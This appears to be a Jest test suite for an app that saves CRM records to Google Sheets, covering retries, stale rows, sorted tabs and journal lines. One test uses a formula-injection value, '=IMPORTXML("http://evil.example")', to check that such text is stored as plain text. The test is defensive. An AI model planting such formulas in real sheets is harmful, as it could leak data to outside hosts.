import { Fault } from '../../src/fault';
import { tabs } from '../../src/store/tables';
import type { Plan, Workbook } from '../../src/store/workbook';
import { aMeeting, anActivity, aSignal, monday9 } from '../support/builders';
import type { Bench } from '../support/store/bench';
import { acme, by, click, twoAccounts } from '../support/store/clicks';
import { grids } from '../support/store/grids';
import { handy } from '../support/store/hands';
import { refused } from '../support/store/memory-grid';

const signal = aSignal();
const action: Plan = { account: 'acc_acme', tables: ['signals'], freshTeam: true };

function codeOf(work: () => void): string {
  try {
    work();
  } catch (thrown) {
    return thrown instanceof Fault ? thrown.code : String(thrown);
  }
  return 'none';
}

const rowsOf = (bench: Bench, tab: keyof typeof tabs) => bench.grid.cells(tabs[tab].sheetId).slice(2);
const column = (tab: 'accounts' | 'signals' | 'team', key: string) => (bench: Bench) =>
  bench.grid.cells(tabs[tab].sheetId)[0]?.indexOf(key) ?? -1;
/** Without the lines of setting up and of the two imported accounts. */
const journal = (bench: Bench) => {
  const [keys = []] = bench.grid.cells(tabs.journal.sheetId);
  const lines = rowsOf(bench, 'journal').map((cells) =>
    Object.fromEntries(keys.map((key, at) => [key, cells[at] ?? ''])),
  );
  return lines.filter(({ action }) => action !== 'setUpWorkbook' && action !== 'import');
};

describe.each(grids)('saving %s', (_place, makeGrid) => {
  test('takes one read and one write for an action', () => {
    const bench = twoAccounts(makeGrid());
    const change = {
      add: { signals: [signal], activities: [anActivity()] },
      links: [{ key: 'msg:1', account: 'acc_acme' as const }],
    };
    expect(bench.calls(() => click(bench, { ...action, find: ['msg:1'] }, change))).toEqual({ reads: 1, writes: 1 });
  });

  test('shows the rows on their tabs, in the dossier and in the index', () => {
    const bench = twoAccounts(makeGrid());
    click(
      bench,
      { ...action, find: ['msg:1'] },
      {
        add: { signals: [signal], activities: [anActivity()] },
        links: [{ key: 'msg:1', account: 'acc_acme' }],
      },
    );
    const snapshot = bench.open().load({ ...action, find: ['msg:1'] });
    expect([snapshot.table('signals'), snapshot.dossier?.signals, snapshot.dossier?.activities, snapshot.hits]).toEqual(
      [[signal], [signal], [anActivity()], [{ key: 'msg:1', account: 'acc_acme' }]],
    );
    expect(rowsOf(bench, 'signals')[0]?.[0]).toBe('Acme Robotics');
  });

  test('raises the version and writes only what differs, so that other cells of the row stay as people left them', () => {
    const bench = twoAccounts(makeGrid());
    bench.grid.set(tabs.accounts.sheetId, 3, column('accounts', 'domains')(bench), 'ACME.example');
    const before = bench.open().load(action).account;
    click(bench, action, { update: { accounts: [{ ...acme, ...before, plan: 'Enterprise' }] } });
    expect(bench.open().load(action).account).toEqual({ ...acme, plan: 'Enterprise', rev: 2 });
    expect(bench.grid.cells(tabs.accounts.sheetId)[3]?.[column('accounts', 'domains')(bench)]).toBe('ACME.example');
    expect(journal(bench)).toEqual([
      {
        at: '2026-11-23T02:00:00Z',
        by: 'mina@orbit.example',
        action: 'flagSignal',
        table: 'accounts',
        id: 'acc_acme',
        rev: 2,
        key: expect.stringMatching(/^a-\w{14}$/),
        account: 'acc_acme',
        before: '{"plan":"Growth"}',
        after: expect.stringMatching(/^\{"":\["accounts","acc_acme",2,.*\],"plan":"Enterprise"\}$/),
      },
    ]);
  });

  test('leaves a row alone that is as it shall be', () => {
    const bench = twoAccounts(makeGrid());
    expect(bench.calls(() => click(bench, action, { update: { accounts: [acme] } }))).toEqual({ reads: 1, writes: 0 });
  });

  test('refuses a row that somebody changed meanwhile, and writes nothing of the change', () => {
    const bench = twoAccounts(makeGrid());
    const stale = { ...acme, rev: 7, plan: 'Enterprise' };
    expect(codeOf(() => click(bench, action, { add: { signals: [signal] }, update: { accounts: [stale] } }))).toBe(
      'stale-row',
    );
    expect([rowsOf(bench, 'signals'), journal(bench)]).toEqual([[], []]);
  });

  test('refuses a row that is not there', () => {
    const bench = twoAccounts(makeGrid());
    expect(codeOf(() => click(bench, action, { update: { signals: [signal] } }))).toBe('missing-row');
  });

  test('adds nothing twice when a click comes again', () => {
    const bench = twoAccounts(makeGrid());
    const change = { add: { signals: [signal], activities: [anActivity()] } };
    click(bench, action, change);
    expect(bench.calls(() => click(bench, action, change))).toEqual({ reads: 1, writes: 0 });
    expect([rowsOf(bench, 'signals').length, rowsOf(bench, 'activities').length, journal(bench).length]).toEqual([
      1, 1, 2,
    ]);
  });

  test('adds nothing twice when the answer of the first try was lost', () => {
    const bench = twoAccounts(makeGrid());
    const workbook = bench.open();
    workbook.load(action);
    bench.grid.fail('lost');
    expect(codeOf(() => workbook.save({ ...by, add: { signals: [signal] } }))).toBe('google-refused');
    click(bench, action, { add: { signals: [signal] } });
    expect(rowsOf(bench, 'signals').length).toBe(1);
  });

  test('adds nothing twice when the same execution tries again after a lost answer', () => {
    const bench = twoAccounts(makeGrid());
    const workbook = bench.open();
    workbook.load(action);
    bench.grid.fail('lost');
    expect(codeOf(() => workbook.save({ ...by, add: { signals: [signal] } }))).toBe('google-refused');
    workbook.load(action);
    workbook.save({ ...by, add: { signals: [signal] } });
    expect(rowsOf(bench, 'signals').length).toBe(1);
  });

  test('adds nothing twice for a form that comes again after the account has forgotten its rows', () => {
    const bench = twoAccounts(makeGrid());
    const note = { key: 'form-1', action: 'saveNote', add: { activities: [anActivity()] } };
    const further = Array.from({ length: 21 }, (_, at) => anActivity({ id: `act_n${at}`, at: monday9 + at + 1 }));
    click(bench, action, note);
    click(bench, action, { add: { activities: further } });
    bench.open().rebuild(monday9);
    expect(bench.calls(() => click(bench, action, note))).toEqual({ reads: 1, writes: 0 });
    expect(rowsOf(bench, 'activities').length).toBe(22);
  });

  test('tells a change once whose row went elsewhere and whose answer was lost', () => {
    const grid = handy(makeGrid());
    const bench = twoAccounts(grid);
    const change = { key: 'form-2', update: { accounts: [{ ...acme, plan: 'Enterprise' }] } };
    grid.beforeWrite(() => {
      grid.sort(tabs.accounts.sheetId, column('accounts', 'name')(bench));
      grid.fail('lost');
    });
    expect(codeOf(() => click(bench, action, change))).toBe('google-refused');
    const workbook = bench.open();
    workbook.locked(() => {
      const { account } = workbook.load(action);
      workbook.save({ ...by, ...change, update: { accounts: [{ ...acme, ...account, plan: 'Enterprise' }] } });
    });
    const lines = bench.open().journalOf({ table: 'accounts', id: 'acc_acme' });
    expect(lines.map((line) => [line.action, line.rev, line.key])).toEqual([
      ['mend', 2, 'mend-acc_acme-2'],
      ['flagSignal', 2, 'form-2'],
      ['import', 1, expect.any(String)],
    ]);
  });

  test('adds a row to a tab that is full to its last row', () => {
    const bench = twoAccounts(makeGrid());
    bench.grid.type(tabs.signals.sheetId, 999, ['somebody wrote at the very end']);
    click(bench, action, { add: { signals: [signal] } });
    expect([bench.open().load(action).table('signals'), rowsOf(bench, 'signals').length]).toEqual([[signal], 999]);
  });

  test('applies nothing when Google refuses', () => {
    const bench = twoAccounts(makeGrid());
    const workbook = bench.open();
    workbook.load(action);
    bench.grid.fail(refused(403, 'The caller does not have permission'));
    expect(codeOf(() => workbook.save({ ...by, add: { signals: [signal] } }))).toBe('no-access');
    expect([rowsOf(bench, 'signals'), bench.open().load(action).dossier?.signals]).toEqual([[], []]);
  });

  test('finds its row after somebody sorted the tab between two clicks', () => {
    const bench = twoAccounts(makeGrid());
    click(bench, action, { add: { signals: [signal, aSignal({ id: 'sig_2', need: 'A second lab' })] } });
    bench.grid.sort(tabs.signals.sheetId, column('signals', 'need')(bench));
    bench.grid.insertColumn(tabs.signals.sheetId, 2);
    click(bench, action, { update: { signals: [{ ...signal, state: 'acknowledged' }] } });
    const snapshot = bench.open().load(action);
    expect(snapshot.table('signals').map(({ id, state, rev }) => [id, state, rev])).toEqual([
      ['sig_2', 'submitted', 1],
      ['sig_1', 'acknowledged', 2],
    ]);
    expect(snapshot.dossier?.signals.map(({ id, state }) => [id, state])).toEqual([
      ['sig_2', 'submitted'],
      ['sig_1', 'acknowledged'],
    ]);
  });

  test('keeps the columns that people added, and what they hold', () => {
    const bench = twoAccounts(makeGrid());
    bench.grid.insertColumn(tabs.accounts.sheetId, 0);
    bench.grid.set(tabs.accounts.sheetId, 3, 0, 'our own');
    click(bench, action, { update: { accounts: [{ ...acme, plan: 'Enterprise' }] } });
    expect(bench.grid.cells(tabs.accounts.sheetId)[3]?.[0]).toBe('our own');
  });

  test('writes a text that looks like a formula as text', () => {
    const bench = twoAccounts(makeGrid());
    click(bench, action, { add: { signals: [aSignal({ need: '=IMPORTXML("http://evil.example")' })] } });
    const sent = JSON.stringify(bench.grid.calls.requests);
    expect(sent.includes('formulaValue')).toBe(false);
    expect(bench.open().load(action).table('signals')[0]?.need).toBe('=IMPORTXML("http://evil.example")');
  });
});

describe.each(grids)('two writes of one execution %s', (_place, makeGrid) => {
  test('need no read between them: a sync is reserved, then booked', () => {
    const bench = twoAccounts(makeGrid());
    const plan: Plan = { account: 'acc_acme', tables: ['meetings'], freshTeam: true };
    const meeting = aMeeting({ account: 'acc_acme', state: 'reserved' });
    const book = (workbook: Workbook) => {
      workbook.load(plan);
      workbook.save({ ...by, add: { meetings: [meeting] } });
      workbook.save({ ...by, update: { meetings: [{ ...meeting, state: 'booked', eventId: 'pair1' }] } });
    };
    expect(
      bench.calls(() => {
        const workbook = bench.open();
        workbook.locked(() => book(workbook));
      }),
    ).toEqual({ reads: 1, writes: 2 });
    const snapshot = bench.open().load(plan);
    const booked = { ...meeting, rev: 2, state: 'booked', eventId: 'pair1' };
    expect([snapshot.table('meetings'), snapshot.dossier?.meetings]).toEqual([[booked], [booked]]);
  });

  test('follow the account as the first one left it', () => {
    const bench = twoAccounts(makeGrid());
    const workbook = bench.open();
    workbook.load(action);
    workbook.save({ ...by, update: { accounts: [{ ...acme, plan: 'A' }] } });
    workbook.save({ ...by, update: { accounts: [{ ...acme, rev: 2, plan: 'B' }] } });
    expect(bench.open().load(action).account).toEqual({ ...acme, rev: 3, plan: 'B' });
  });
});

describe.each(grids)('a rebuild under a lock that is held %s', (_place, makeGrid) => {
  test('goes on under the same lock', () => {
    const bench = twoAccounts(makeGrid());
    const workbook = bench.open();
    expect(workbook.locked(() => workbook.rebuild(monday9)).accounts).toBe(2);
  });
});
